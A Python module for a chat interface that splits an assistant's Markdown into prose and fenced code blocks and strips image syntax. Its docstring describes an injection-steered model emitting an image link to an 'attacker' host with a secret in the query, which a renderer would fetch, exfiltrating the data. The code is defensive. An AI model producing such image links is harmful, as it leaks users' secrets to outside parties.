"""An assistant's Markdown cut into what the Chat view draws: prose, and code blocks of their own.

Flet's ``Markdown`` has no code-block builder, so a fenced block cannot carry a
copy button from inside it. The view draws each top-level fence as a control of
its own instead, and these functions find the fences the way CommonMark does
(up to three spaces before three or more backticks or tildes; the block ends at
a fence of the same character at least as long, or with the message).

Images are shown as links, never fetched: a reply is model output, and a model
steered by a web page or a document can write ``![](https://attacker/?q=secret)``;
rendering it would send that request the moment the bubble is drawn.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Literal

__all__ = ["Block", "blocks", "code_fence", "shorten", "without_images"]

_OPENING = re.compile(r"^( {0,3})(`{3,}|~{3,})([^\n]*)$")


@dataclass(frozen=True, slots=True)
class Block:
    """``kind`` "text" holds Markdown prose; "code" holds a fenced block's ``code`` exactly
    as it is to be copied (its lines, indentation kept, without the fences)."""

    kind: Literal["text", "code"]
    text: str
    language: str = ""


def blocks(markdown: str) -> list[Block]:
    """The top-level fenced code blocks of ``markdown`` and the prose around them, in order.

    Blank prose between blocks is dropped; a fence left open runs to the end, as
    it renders while a reply is still being written.
    """
    out: list[Block] = []
    prose: list[str] = []
    lines = markdown.split("\n")
    i = 0
    while i < len(lines):
        opening = _opening(lines[i])
        if opening is None:
            prose.append(lines[i])
            i += 1
            continue
        indent, fence, language = opening
        _flush(prose, out)
        code: list[str] = []
        i += 1
        while i < len(lines) and not _closes(lines[i], fence):
            code.append(_dedent(lines[i], indent))
            i += 1
        i += 1  # the closing fence, or past the end
        out.append(Block("code", "\n".join(code), language))
    _flush(prose, out)
    return out


def code_fence(block: Block) -> str:
    """A code block as Markdown again, behind a fence longer than any run inside it."""
    longest = max((len(run) for run in re.findall(r"`+", block.text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{block.language}\n{block.text}\n{fence}"


def without_images(prose: str) -> str:
    """Prose with every image turned into a link to it (``![a](u)`` -> ``[a](u)``).

    Every "!" right before a "[" goes, inside code spans too: telling code spans
    from text the way Markdown does (escapes, backtick runs, autolinks) is where
    a crafted reply would slip an image through, and a "!" lost in a code span is
    the lesser harm. Removing the whole run leaves no "!" to meet the "[" again.
    """
    return _IMAGE.sub("", prose)


_IMAGE = re.compile(r"!+(?=\[)")


def shorten(text: str, limit: int) -> str:
    """``text`` cut to at most ``limit`` characters, at a line end or else a space when one
    lies in its last third, with "…" added; shorter text comes back whole."""
    if len(text) <= limit:
        return text
    head = text[:limit]
    floor = limit * 2 // 3
    for separator in ("\n", " "):
        cut = head.rfind(separator)
        if cut >= floor:
            head = head[:cut]
            break
    return head.rstrip() + "…"


def _opening(line: str) -> tuple[int, str, str] | None:
    match = _OPENING.match(line)
    if match is None:
        return None
    indent, fence, info = match.groups()
    if fence[0] == "`" and "`" in info:
        return None  # CommonMark: a backtick fence's info string has no backtick
    words = info.split()
    return len(indent), fence, words[0] if words else ""


def _closes(line: str, fence: str) -> bool:
    stripped = line.lstrip(" ")
    if len(line) - len(stripped) > 3:
        return False
    run = len(stripped) - len(stripped.lstrip(fence[0]))
    return run >= len(fence) and not stripped[run:].strip(" ")


def _dedent(line: str, indent: int) -> str:
    """CommonMark: a code line loses up to the opening fence's indentation."""
    spaces = len(line) - len(line.lstrip(" "))
    return line[min(spaces, indent):]


def _flush(prose: list[str], out: list[Block]) -> None:
    text = "\n".join(prose)
    if text.strip():
        out.append(Block("text", text.strip("\n")))
    prose.clear()
